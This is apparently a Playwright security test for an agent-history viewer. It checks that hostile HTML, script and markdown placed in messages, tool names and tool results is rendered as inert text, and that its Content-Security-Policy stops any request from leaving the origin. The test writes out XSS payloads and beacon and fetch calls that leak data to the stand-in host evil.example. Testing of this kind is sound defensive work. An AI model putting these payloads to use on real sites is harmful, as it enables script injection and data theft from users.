/**
 * A history full of hostile content (HTML, scripts, event handlers, javascript: links, markdown and
 * CSS image beacons, an iframe) in messages, tool names, arguments and results, opened and explored
 * the way a user does: it renders as inert text, nothing runs, and no request leaves the app's origin
 * during load, inspection and comparison. The Content-Security-Policy is on every response.
 */
import { expect, test } from '@playwright/test';
import { choose } from './choose';

const EVIL = 'https://evil.example';
const payloads = [
  `<img src="${EVIL}/img.png" onerror="window.__pwned='img'">`,
  `<script>window.__pwned='script'</script>`,
  `[click me](javascript:window.__pwned='link')`,
  `![beacon](${EVIL}/beacon.png?leak=secret)`,
  `<a href="javascript:window.__pwned='a'">open</a>`,
  `<svg onload="window.__pwned='svg'"></svg>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<style>@import url(${EVIL}/x.css); body{background:url(${EVIL}/bg.png)}</style>`,
  `<link rel="prefetch" href="${EVIL}/prefetch">`,
];
const all = payloads.join('\n');

const history = [
  { role: 'system', content: `You are helpful. ${all}` },
  { role: 'user', content: `Summarize this page: ${all}` },
  {
    role: 'assistant',
    content: `Fetching ${payloads[3]}`,
    tool_calls: [
      {
        id: 'call_<b>1</b>',
        type: 'function',
        function: {
          name: `fetch<img src=x onerror="window.__pwned='tool'">`,
          arguments: JSON.stringify({ url: `${EVIL}/page`, html: all }),
        },
      },
    ],
  },
  { role: 'tool', tool_call_id: 'call_<b>1</b>', content: `<html><body>${all}</body></html>` },
  { role: 'assistant', content: `Done. ${payloads[2]} ${payloads[0]}` },
];

test('hostile content renders as text, runs nothing, and nothing leaves the origin', async ({
  page,
  baseURL,
}) => {
  const requests: string[] = [];
  const dialogs: string[] = [];
  const errors: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => errors.push(e.message));

  const response = await page.goto('/');
  const csp = response?.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("connect-src 'self'");
  expect(csp).toContain("img-src 'self' data: blob:");
  expect(csp).toContain("object-src 'none'");

  await page.getByLabel('Choose a history file').setInputFiles({
    name: 'hostile.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(history)),
  });
  const timeline = page.getByRole('region', { name: 'Timeline' });
  await expect(timeline.getByText('Timeline · 4 steps')).toBeVisible();
  // The payloads are shown as the text they are.
  await expect(timeline).toContainText('<script>');

  // Inspect every step, its messages in each dialect and its original record.
  const inspector = page.getByRole('region', { name: 'Step inspector' });
  for (const label of [/^Step 0 /, /^Step 1 /, /^Step 2 /, /^Step 3 /]) {
    await timeline.getByRole('button', { name: label }).click();
    await expect(inspector).toBeVisible();
  }
  await timeline.getByRole('button', { name: /^Step 2 / }).click();
  await expect(inspector).toContainText(`fetch<img src=x onerror="window.__pwned='tool'">`);
  for (const dialect of ['openai', 'anthropic', 'strands', 'smolagents', 'tinyagent']) {
    await choose(inspector.getByLabel('Dialect'), dialect);
    await expect(inspector.getByLabel('Messages')).toContainText('evil.example');
  }
  await inspector.getByText('Original record in the file').click();
  await expect(inspector.getByLabel('Original record')).toContainText('<iframe');

  // The table, then a comparison with three framework defaults and the context at a call.
  await page.getByRole('tab', { name: 'Table', exact: true }).click();
  await expect(page.getByRole('table').first()).toContainText('<script>');
  await page.getByRole('tab', { name: 'Compare strategies' }).click();
  await page.getByRole('button', { name: 'Compare three framework defaults' }).click();
  await expect(page.getByRole('table', { name: 'Strategy summary' }).getByRole('row')).toHaveCount(
    5,
  );
  await expect(page.getByRole('region', { name: 'Context at call' })).toContainText(
    'Context at call',
  );

  // Nothing ran and nothing was fetched from anywhere but the app.
  expect(
    await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned),
  ).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(
    await page.locator('iframe, img[src*="evil"], a[href^="javascript:"], svg[onload]').count(),
  ).toBe(0);
  const origin = new URL(baseURL ?? '').origin;
  const foreign = requests.filter(
    (u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'),
  );
  expect(foreign).toEqual([]);
  expect(requests.length).toBeGreaterThan(3);
  expect(errors).toEqual([]);
});

test('the Content-Security-Policy refuses what a successful injection would try', async ({
  page,
}) => {
  await page.goto('/');
  // Refused by the policy (a violation is reported), not merely unreachable from this machine.
  const violations = await page.evaluate(async (evil) => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    await fetch(`${evil}/exfiltrate`).catch(() => undefined);
    await new Promise<void>((resolve) => {
      const img = new Image();
      img.onload = img.onerror = () => resolve();
      img.src = `${evil}/beacon.png`;
    });
    const frame = document.createElement('iframe');
    frame.src = `${evil}/frame`;
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 300));
    frame.remove();
    return seen.sort();
  }, EVIL);
  expect(violations).toEqual([
    `connect-src ${EVIL}/exfiltrate`,
    `frame-src ${EVIL}`,
    `img-src ${EVIL}/beacon.png`,
  ]);
});
